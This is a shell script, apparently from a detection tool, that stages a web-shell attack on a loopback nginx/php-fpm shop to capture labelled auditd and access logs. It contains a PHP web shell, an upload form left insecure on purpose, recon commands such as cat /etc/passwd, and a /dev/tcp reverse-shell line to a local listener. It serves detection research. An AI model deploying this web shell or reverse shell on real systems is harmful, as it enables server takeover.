#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/upload-revshell: a web shell uploaded through a
# legitimate upload form, then used for recon, a download to /tmp and a
# reverse shell to a loopback port, with a real auditd, nginx and
# php-fpm on this machine.
#
#   sh tools/capture/upload-revshell.sh [OUTDIR]   (as root; default samples/upload-revshell)
#
# What it sets up, all under a temporary directory and torn down after:
# - auditd with its own configuration: RAW format, node=web04, rules for
#   execve/execveat (both arches), connect, bind and listen, and writes
#   and attribute changes under the web root (-w /srv/www/shop -p wa);
# - php-fpm 8.2 (one pool, www-data) and nginx on 127.0.0.1:8082 in the
#   +01:00 zone, combined log format, serving /srv/www/shop with a
#   legitimate upload form (upload.php, saving to uploads/);
# - a listener as root on 127.0.0.1:4444, standing for the attacker.
# truth.tsv: per request through the uploaded shell, the time curl
# started, client, method, path, exact command; and the upload itself,
# with the command column "UPLOAD uploads/NAME".
#
# Needs: auditd, nginx, php8.2-fpm, curl, python3.  Removes only the
# audit rules it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/upload-revshell}")
PORT=8082
WEB=/srv/www/shop
T=$(mktemp -d /tmp/shelltrail-capture.XXXXXX)
BASE="http://127.0.0.1:$PORT"
RULES="-a always,exit -F arch=b64 -S execve,execveat -k exec
-a always,exit -F arch=b32 -S execve,execveat -k exec
-a always,exit -F arch=b64 -S connect,bind,listen -k net
-w $WEB -p wa -k webroot"

[ "$(id -u)" -eq 0 ] || { echo "capture: run as root" >&2; exit 2; }
if pidof auditd >/dev/null; then
	echo "capture: auditd is running; stop it first" >&2
	exit 2
fi

rules() {	# -a|-d: add or delete our rules
	echo "$RULES" | while read -r line; do
		case $line in
		-w*) [ "$1" = -a ] && auditctl $line || auditctl -W ${line#-w } ;;
		*) auditctl $1 ${line#-a } ;;
		esac
	done
}

cleanup() {
	rules -d 2>/dev/null || true
	for p in nginx fpm auditd listener; do
		[ -f "$T/$p.pid" ] && kill "$(cat "$T/$p.pid")" 2>/dev/null || true
	done
	sleep 1
	rm -rf "$T" "$WEB"
}
trap cleanup EXIT INT TERM

chmod 755 "$T"
mkdir -p "$T/audit" "$T/nginx" "$WEB/uploads"

# --- the shop: pages and a legitimate upload form ---------------------------
cat > "$WEB/index.php" <<'PHP'
<?php echo "<h1>Shop</h1><a href=/upload.php>Send us your photo</a>\n";
PHP
cat > "$WEB/upload.php" <<'PHP'
<?php /* legitimate: saves what it is given, checks nothing */
if (isset($_FILES['photo'])) {
	$to = __DIR__ . '/uploads/' . basename($_FILES['photo']['name']);
	move_uploaded_file($_FILES['photo']['tmp_name'], $to);
	echo "saved\n";
} else {
	echo "<form method=post enctype=multipart/form-data>" .
	    "<input type=file name=photo></form>\n";
}
PHP
printf '%s\n' '<p>logo</p>' > "$WEB/logo.html"
chown -R www-data:www-data "$WEB"

# The web shell the attacker uploads.
printf '%s\n' '<?php if (isset($_GET["q"])) system($_GET["q"]); ?>' > "$T/avatar.php"

# --- php-fpm and nginx ------------------------------------------------------
cat > "$T/fpm.conf" <<EOF
[global]
pid = $T/fpm.pid
error_log = $T/fpm.log
daemonize = yes
[shop]
user = www-data
group = www-data
listen = $T/fpm.sock
listen.owner = www-data
listen.group = www-data
pm = static
pm.max_children = 2
EOF
cat > "$T/nginx.conf" <<EOF
user www-data;
worker_processes 1;
pid $T/nginx.pid;
error_log $T/nginx/error.log;
events { worker_connections 64; }
http {
    access_log $T/nginx/access.log combined;
    client_max_body_size 1m;
    server {
        listen 127.0.0.1:$PORT;
        root $WEB;
        index index.php;
        location ~ \.php\$ {
            include /etc/nginx/fastcgi_params;
            fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
            fastcgi_pass unix:$T/fpm.sock;
        }
    }
}
EOF

# --- auditd -----------------------------------------------------------------
cat > "$T/auditd.conf" <<EOF
local_events = yes
write_logs = yes
log_file = $T/audit/audit.log
log_format = RAW
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 64
num_logs = 5
max_log_file_action = ROTATE
name_format = USER
name = web04
space_left = 75
space_left_action = SYSLOG
admin_space_left = 50
admin_space_left_action = SUSPEND
disk_full_action = SUSPEND
disk_error_action = SUSPEND
end_of_event_timeout = 2
plugin_dir = $T/plugins.d
EOF
mkdir -p "$T/plugins.d"
auditd -c "$T"
sleep 1
pidof auditd > "$T/auditd.pid"
rules -a

php-fpm8.2 -y "$T/fpm.conf"
TZ=Europe/Paris nginx -c "$T/nginx.conf"
# The attacker's listener: reads what the reverse shell sends.
/usr/bin/python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4444)); s.listen(1)
c, _ = s.accept(); c.settimeout(5)
try:
    while c.recv(4096): pass
except OSError: pass
' &
echo $! > "$T/listener.pid"
sleep 1

# --- traffic ----------------------------------------------------------------
TRUTH="$T/truth.tsv"
: > "$TRUTH"
now() { date +%s.%N; }
ATTACKER=127.88.8.8
AUA="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0"
browse() {	# ordinary customers
	for c in 127.0.0.31 127.0.0.32; do
		curl -s -o /dev/null --interface "$c" -A "Mozilla/5.0 (Macintosh)" \
		    "$BASE/index.php?page=home" || true
		curl -s -o /dev/null --interface "$c" -A "Mozilla/5.0 (Macintosh)" \
		    "$BASE/logo.html" || true
	done
}
upload() {	# FILE NAME: through the form, as the attacker
	printf '%s\t%s\tPOST\t/upload.php\tUPLOAD uploads/%s\n' "$(now)" \
	    "$ATTACKER" "$2" >> "$TRUTH"
	curl -s -o /dev/null --interface "$ATTACKER" -A "$AUA" \
	    -F "photo=@$1;filename=$2" "$BASE/upload.php" || true
}
shell() {	# COMMAND: through the uploaded shell
	printf '%s\t%s\tGET\t/uploads/avatar.php\t%s\n' "$(now)" "$ATTACKER" \
	    "$1" >> "$TRUTH"
	curl -s -o /dev/null --interface "$ATTACKER" -A "$AUA" -G \
	    --data-urlencode "q=$1" "$BASE/uploads/avatar.php" || true
}

browse
upload "$T/avatar.php" avatar.php
browse
shell "id"
shell "uname -a"
shell "cat /etc/passwd"
browse
shell "curl -s -o /tmp/.cache.sh $BASE/logo.html; chmod +x /tmp/.cache.sh"
shell "bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; id >&3; uname -n >&3'"
browse
shell "rm -f /tmp/.cache.sh"
browse
sleep 3	# let auditd flush

# --- collect ----------------------------------------------------------------
nginx -c "$T/nginx.conf" -s quit
sleep 1
rules -d
kill "$(cat "$T/auditd.pid")"
sleep 1
rm -rf "$OUT"
mkdir -p "$OUT/audit" "$OUT/nginx" "$OUT/www"
cp "$T"/audit/audit.log* "$OUT/audit/"
cp "$T/nginx/access.log" "$OUT/nginx/access.log"
cp "$WEB/index.php" "$WEB/upload.php" "$T/avatar.php" "$OUT/www/"
echo "$RULES" > "$OUT/audit.rules"
cp "$TRUTH" "$OUT/truth.tsv"
chmod -R a+rX,u+w "$OUT"
echo "capture: wrote $OUT"
